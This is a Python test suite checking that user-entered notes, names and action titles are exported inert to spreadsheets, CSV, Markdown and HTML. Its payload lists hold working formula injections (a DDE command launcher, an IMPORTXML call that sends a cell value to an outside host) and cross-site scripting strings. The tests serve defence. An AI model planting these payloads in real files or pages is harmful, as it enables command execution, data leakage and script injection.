"""Hostile text typed by users (notes, names, action titles) is inert in every export.

Formula injection: no cell of an XLSX or CSV export becomes a live formula. Markup injection: no export that is
read as Markdown or HTML contains live markup.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from core.access import SYSTEM
from core.db import transaction
from core.export_safety import FORMULA_STARTS
from facilitator.cli import main
from sessions.dialogue import dialogue_tables
from sessions.notes import create_action, create_note
from sessions.participants import add_participant
from sessions.printables import briefing_markdown, name_cards_html, table_lists_html
from sessions.report import build_report, render_actions_csv, render_actions_xlsx, render_markdown

FORMULAS = [
    '=HYPERLINK("http://evil.example","klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
]
MARKUP = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "[klik](javascript:window.__xss=1)",
    "![x](http://evil.example/x.png)",
    "**vet** _schuin_ `code`",
    "\"><iframe srcdoc='<script>window.__xss=1</script>'>",
    ":red[rood] $x^2$",
]


@pytest.fixture
def hostile(writable_demo: Engine) -> Engine:
    """The demo session with every payload as a note, an action (title, lead, partners) and a participant."""
    with transaction(writable_demo) as db:
        table = dialogue_tables(db=db, dialogue_id=1, round_number=1)[0]
        assert table.id is not None
        for payload in FORMULAS + MARKUP:
            create_note(db=db, actor=SYSTEM, table_id=table.id, author=payload, text=payload, indicator_code=None)
            create_action(
                db=db,
                actor=SYSTEM,
                table_id=table.id,
                author=payload,
                title=payload,
                lead_organisation=payload,
                partners=[payload],
            )
            add_participant(db=db, actor=SYSTEM, dialogue_id=1, name=payload, organisation=payload, rsvp="aangemeld")
    return writable_demo


def _live(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_no_live_formula_in_xlsx_or_csv(hostile: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with Session(hostile) as db:
        report = build_report(db=db, dialogue_id=1)
        workbook = load_workbook(io.BytesIO(render_actions_xlsx(report)))
        rows = list(csv.reader(io.StringIO(render_actions_csv(report).decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or _live(c.value)]
    titles = {c.value for c in cells}
    assert {"'" + f.replace("\r", "\n") for f in FORMULAS} <= titles  # kept, readable, inert
    assert not [field for row in rows for field in row if _live(field)]
    if hostile.dialect.name == "sqlite":  # the command line export of notes
        monkeypatch.setenv("DATABASE_URL", hostile.url.render_as_string(hide_password=False))
        out = tmp_path / "notities.csv"
        with open(out, "w", encoding="utf-8") as handle:
            monkeypatch.setattr("sys.stdout", handle)
            assert main(["notes", "--session", "1"]) == 0
        exported = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        assert not [field for row in exported for field in row if _live(field)]


def test_markup_is_escaped_in_markdown_and_html_exports(hostile: Engine) -> None:
    with Session(hostile) as db:
        report = render_markdown(build_report(db=db, dialogue_id=1, with_names=True))
        briefing = briefing_markdown(actor=SYSTEM, db=db, dialogue_id=1, theme_code="VB")
        cards = name_cards_html(actor=SYSTEM, db=db, dialogue_id=1)
        lists = table_lists_html(actor=SYSTEM, db=db, dialogue_id=1, round_number=1)
    for markdown in (report, briefing):  # every "<" that could open a tag is escaped (or replaced)
        assert not re.search(r"(?<!\\)<[a-z!/]", markdown, re.IGNORECASE)
    qr_codes = re.compile(r'<svg width="\d+mm" height="\d+mm" viewBox="[\d ]+" class="segno"><path [^<>]*/></svg>')
    assert len(qr_codes.findall(cards)) > 10  # the name cards' own QR codes, and nothing else, are pictures
    for html in (qr_codes.sub("", cards), lists):
        for tag in ("<script", "<img", "<svg", "<iframe"):
            assert tag not in html.lower()
    assert not re.search(r"(?<!\\)\]\(", report)  # no link or image syntax survives
    assert "\\[klik\\]" in report
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in cards
